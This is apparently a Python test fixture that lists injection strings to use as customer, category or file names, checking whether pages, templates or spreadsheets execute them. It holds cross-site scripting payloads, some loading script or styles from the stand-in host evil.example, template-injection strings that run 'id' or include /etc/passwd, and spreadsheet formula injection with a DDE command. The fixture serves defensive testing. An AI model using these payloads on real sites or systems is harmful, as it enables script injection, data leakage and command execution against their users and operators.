"""Texts that try to be more than text, as names of customers, categories, features, files or campaigns.

Each wants a page, a picture, a template or a spreadsheet to run it, to load something, or to break off.
``window.__pwned`` is how a browser test sees that one of them ran.
"""

RUN = "window.__pwned=1;alert(1)"
_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{RUN}></SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script type="module">{RUN}</script>',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"</ScRiPt ><ScRiPt >{RUN}</ScRiPt >",
    f'"}}</script><script>{RUN}</script>{{"',
    f'"];{RUN};["',
    f"'-{RUN}-'",
    f'\\";{RUN};//',
    f"`${{{RUN}}}`",
]
_HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=data:, onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<style onload={RUN}></style>",
    f"\"><b onmouseover='{RUN}'>",
    f"' onfocus={RUN} autofocus tabindex=0 x='",
    f'" onload="{RUN}" x="',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
]
_ADDRESSES = [
    f"<a href='javascript:{RUN}'>x</a>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<object data='data:text/html,<script>{RUN}</script>'>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<form action=//evil.example><button>x</button></form>",
    "<img src=//evil.example/pixel.gif>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "file:///etc/passwd",
]
_CLOSERS = [
    "<!--",
    f"--><script>{RUN}</script>",
    f"--!><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</svg><script>{RUN}</script>",
    "</table></main></body></html>",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<select><option>",
    "<x" * 500,
    "<a b='",
    '<td class="',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt; &nbsp; &",
]
_STYLES = [
    "<style>*{display:none}</style>",
    "}</style><style>body{background:url(//evil.example)}",
    "x;background:url(//evil.example/x.png)",
    "<p style='position:fixed;inset:0;background:red'>",
    "url(#a); } * { display: none",
]
_TEMPLATES = [
    "{{ 7 * 7 }}", "{{ cycler.__init__.__globals__.os.system('id') }}", "{% raw %}",
    "{% include '/etc/passwd' %}",
    "{# note #}", "{0}", "{evil}", "{__class__}", "%(evil)s", "%n%s", "${env:HOME}", "$\\frac{1}{", "#{7*7}",
]  # fmt: skip
_FORMULAS = ['=HYPERLINK("x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\uff1d1+1"]
_LETTERS = [
    "\x00\x1b[2J", "line\nbreak", "\r\n=1", "\u202eevil", "\u2066\u202dback\u2069", "zero\u200bwidth\ufeff",
    "two\u2028lines\u2029", "\x7f\x85\x9f", "\u0627\u0644\u0639", "e\u0301\u0301\u0301", "\U0001f600",
    "\u00ad-\u00ad", "x" * 5_000,
]  # fmt: skip

PAYLOADS = _SCRIPTS + _HANDLERS + _ADDRESSES + _CLOSERS + _STYLES + _TEMPLATES + _FORMULAS + _LETTERS
